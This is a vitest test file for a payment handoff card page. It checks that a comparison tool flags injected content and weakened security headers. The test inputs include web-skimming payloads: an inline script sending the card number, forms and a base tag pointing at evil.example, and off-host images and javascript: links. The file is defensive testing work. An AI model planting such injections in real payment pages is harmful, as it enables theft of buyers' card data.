import { beforeAll, expect, test } from "vitest";
import { comparePage } from "@/server/domain/pages/compare-page";
import { toReleasedPages } from "@/server/domain/pages/inventory";
import { readElements } from "@/server/usecases/pages/shared/read-page";
import { pageRelease } from "./page-release";
import { renderBuyerDocument } from "./render";

// What an attacker could plant into the card form of the handoff, and the sentence that names it (D-296).

const page = toReleasedPages(pageRelease).inventory.pages.find(({ kind }) => kind === "handoff_card")!;
const nonce = "bm9uY2Ugb2YgdGhpcyB0ZXN0";
const headers = Object.entries(page.headers).map(
  ([name, value]) => [name, value.replace(/\{nonce\}/g, nonce)] as const,
);
const place = { address: "https://pay.example.com/handoff", values: { "{shop-address}": "https://shop.example/" } };
let html = "";

beforeAll(async () => {
  const payment = {
    merchantName: "Vezne",
    amountKurus: 100n,
    installment: 1,
    expiresAt: new Date("2026-11-20T11:30:00.000Z"),
    backUrl: "https://shop.example/",
  };
  const shown = { kind: "card", payment, paymentRef: "R".repeat(43) } as const;
  html = await renderBuyerDocument({ page: shown, language: "tr", traceId: "0".repeat(32), nonce });
});

const compare = (text: string, sent: typeof headers = headers) =>
  comparePage(page, { status: 200, headers: sent, elements: readElements(text) }, place);

test("finds nothing in the page itself", () => {
  expect(compare(html)).toEqual([]);
});

const main = (added: string) => (text: string) => text.replace("<main>", `<main>${added}`);
const head = (added: string) => (text: string) => text.replace("<meta", `${added}<meta`);

test.each<[what: string, change: (text: string) => string, sentence: RegExp]>([
  ["an inline script", main("<script>send(pan.value)</script>"), /inline script: "send\(pan\.value\)"/],
  ["a script of our own host", main('<script src="/assets/x.js"></script>'), /script "\/assets\/x\.js" is not in/],
  ["a script in a template", main("<template><script>x()</script></template>"), /inline script: "x\(\)"/],
  ["a script in a noscript element", main("<noscript><script>x()</script></noscript>"), /inline script: "x\(\)"/],
  ["a script of a drawing", main('<svg><script xlink:href="//evil.example"></script></svg>'), /inline script/],
  [
    "no script",
    (text) => text.replace(/<script[^>]*><\/script>/, ""),
    /The script \/assets\/card-form\.\w+\.js is missing/,
  ],
  [
    "another later script",
    (text) => text.replace(/data-src="[^"]*"/, 'data-src="/assets/y.js"'),
    /"\/assets\/y\.js" is not in/,
  ],
  ["a second target", main('<button form="x" formaction="/l/x/pay"></button>'), /A form sends to "post \/l\/x\/pay"/],
  ["a second form", main('<form action="//evil.example/"></form>'), /A form sends to "\/\/evil\.example\/"/],
  [
    "no form target",
    (text) => text.replace(' action="/handoff?lang=tr"', ""),
    /sends to "post \/handoff\?lang=tr" is missing/,
  ],
  ["a handler in capitals", main('<img OnError="x()">'), /<img> has the handler onerror: "x\(\)"/],
  ["an address that runs", main('<a href="java\nscript:x()">x</a>'), /href of <a> is the address "java script:x\(\)"/],
  ["a base", head('<base href="https://evil.example">'), /There is an element <base>/],
  ["a frame", main('<iframe src="/x"></iframe>'), /There is an element <iframe>/],
  ["a meta refresh", head('<meta http-equiv="refresh" content="0">'), /<meta http-equiv="refresh">/],
  ["a linked style sheet", head('<link rel="stylesheet" href="/a.css">'), /<link rel="stylesheet" href="\/a\.css">/],
  ["other styles", (text) => text.replace("</style>", "input{}</style>"), /style sheet that is not in the inventory/],
  ["an inline style", main('<p style="background:url(/x)"></p>'), /<p> has an inline style/],
  ["a picture of another host", main('<img src="//evil.example/p.gif">'), /src of <img> leads to another host/],
  ["a link to another host", main('<a href="https://evil.example/">x</a>'), /href of <a> leads to another host/],
  ["a set of pictures", main('<img srcset="/a 1x, https://evil.example/b 2x">'), /"https:\/\/evil\.example\/b"/],
])("names %s", (_, change, sentence) => {
  expect(compare(change(html)).join("\n")).toMatch(sentence);
});

const setHeader = (name: string, value: string) =>
  headers.map((one) => (one[0] === name ? ([name, value] as const) : one));
const policy = headers.find(([name]) => name === "content-security-policy")![1];

test.each<[what: string, sent: typeof headers, sentence: RegExp]>([
  [
    "a wider policy",
    setHeader("content-security-policy", policy.replace("form-action 'self'", "form-action *")),
    /header content-security-policy is /,
  ],
  [
    "two nonces",
    setHeader("content-security-policy", policy.replace(nonce, "b3RoZXIgbm9uY2Ugb2YgdGVzdA")),
    /header content-security-policy is /,
  ],
  ["a second policy", [...headers, ["content-security-policy", "default-src *"]], /sent more than once/],
  ["a cookie", [...headers, ["set-cookie", "a=b"]], /header set-cookie was added/],
  ["a cached page", setHeader("cache-control", "public"), /header cache-control is "public"/],
])("names %s among the headers", (_, sent, sentence) => {
  expect(compare(html, sent).join("\n")).toMatch(sentence);
});
